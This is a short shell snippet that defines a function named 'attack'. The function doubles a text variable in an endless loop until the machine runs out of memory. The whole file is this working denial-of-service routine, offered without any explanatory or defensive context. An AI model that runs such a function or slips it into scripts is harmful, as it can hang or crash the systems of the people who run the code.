# Doubles a text without end.
attack() {
  text=xxxxxxxxxxxxxxxx
  while :; do text+=$text; done
}
